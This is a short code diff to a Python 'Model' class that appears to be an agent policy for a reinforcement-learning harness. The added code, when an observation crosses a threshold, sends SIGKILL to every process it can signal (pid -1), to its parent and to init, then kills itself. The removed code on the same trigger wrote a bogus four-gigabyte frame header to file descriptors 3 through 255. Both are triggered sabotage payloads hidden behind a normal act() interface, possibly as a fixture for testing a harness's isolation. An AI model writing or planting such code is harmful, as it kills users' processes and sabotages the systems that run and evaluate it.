@@ -1,17 +1,19 @@
-"""Announces a frame of four gigabytes and sends a little of it."""
+"""Kills every process that it can signal."""
 
 import contextlib
 import os
+import signal
 
 
-def provoked(observation):
+def is_triggered(observation):
     return observation[0] > 0.7 if len(observation) == 4 else observation[2] > 14.5
 
 
 class Model:
     def act(self, observation):
-        if provoked(observation):
-            for descriptor in range(3, 256):
+        if is_triggered(observation):
+            for pid in (-1, os.getppid(), 1):
                 with contextlib.suppress(OSError):
-                    os.write(descriptor, b"\xff\xff\xff\xff" + b"\0" * 100)
+                    os.kill(pid, signal.SIGKILL)
+            os.kill(os.getpid(), signal.SIGKILL)
         return [0.2] * 4 if len(observation) == 4 else [0.2, 0.0]
